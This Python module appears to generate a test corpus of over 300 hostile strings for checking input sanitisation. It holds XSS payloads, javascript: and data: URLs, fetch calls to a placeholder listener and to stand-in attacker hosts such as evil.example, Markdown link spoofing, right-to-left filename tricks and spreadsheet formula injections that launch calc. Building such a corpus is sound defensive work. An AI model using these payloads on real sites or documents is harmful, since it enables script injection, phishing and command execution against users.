"""Texts that would run a script, or ask a listener for something, if any of them became markup, style or address."""

from collections.abc import Sequence
from itertools import product

CANARY = "CANARY"
"""Stands for the address of the listener."""

_JS = ("alert(1)", "fetch('CANARY/js')", "window.pwned=1", "import('CANARY/m.js')")
_MARKUP = (
    "<script>{js}</script>",
    "<script src=CANARY/s.js></script>{js}",
    "<img src=CANARY/i.png onerror={js}>",
    '<img src=x onerror="{js}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror={js}>",
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<iframe src="javascript:{js}"></iframe>',
    '<object data="javascript:{js}"></object>',
    "<embed src=CANARY/e>{js}",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=CANARY/a.mp3 onerror={js}>",
    "<style>@import 'CANARY/c.css';</style>{js}",
    "<link rel=stylesheet href=CANARY/l.css>{js}",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<base href=CANARY/>{js}",
    "<form action=CANARY/f><button>{js}</button></form>",
    "<template><img src=CANARY/t onerror={js}></template>",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "--><script>{js}</script>",
    "]]><script>{js}</script>",
    "'\"><img src=x onerror={js}>",
    "`-{js}-`",
    "${{{js}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    '<a href="javascript:{js}">x</a>',
    "<x onclick={js}>x</x>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "<lit-part><?lit$1$?>{js}",
    "<kefu-widget host=CANARY></kefu-widget>{js}",
    "<slot name={js}></slot>",
    'style="background:url(CANARY/b)" {js}',
)
_ADDRESSES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "java&#10;script:{js}",
    "\u0001javascript:{js}",
    "vbscript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{js}",
    "file:///etc/passwd#{js}",
    "blob:CANARY/{js}",
    "//evil.example/{js}",
    "https://bank.example@evil.example/{js}",
    "https:javascript:{js}",
    "mailto:a@b.example?body=<script>{js}</script>",
    "tel:+1;ext=<script>{js}</script>",
    "ftp://evil.example/{js}",
)
_SHAPES = ("{address}", "[click]({address})", "- [click]({address})", "<{address}>")
_OTHER = (
    "[https://bank.example](https://evil.example/)",
    '[a](https://e.example/"onmouseover="window.pwned=1)',
    "[a](https://e.example/'><img src=CANARY/q>)",
    "\u202egnp.exe\u202c",
    "‮moc.elpmaxe@a‬ https://e.example/\u202e",
    "\u0000\u0007\u001b[2J",
    "A" * 4000,
    "[" * 2000 + "](" * 1000,
    "- " * 2000,
    "*" * 3000,
    "https://" + "a." * 1500,
    "1. a\n" * 400,
    '=HYPERLINK("CANARY/x","pay")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


def hostile_strings(canary: str) -> list[str]:
    """More than 300, with the listener's address in them."""
    made = [shape.format(js=js) for shape, js in product(_MARKUP, _JS)]
    addresses = [address.format(js=js) for address, js in product(_ADDRESSES, _JS[:3])]
    made += [shape.format(address=address) for shape, address in product(_SHAPES, addresses)]
    return [text.replace(CANARY, canary) for text in (*made, *_OTHER)]


def packed(texts: Sequence[str], longest: int) -> list[str]:
    """All of the texts in as few as there is room for; those that are longer than the room stay as they are."""
    packs: list[str] = []
    pack = ""
    for text in texts:
        if pack and len(pack) + 1 + len(text) > longest:
            packs.append(pack)
            pack = text
        else:
            pack = f"{pack} {text}" if pack else text
    return [*packs, pack]
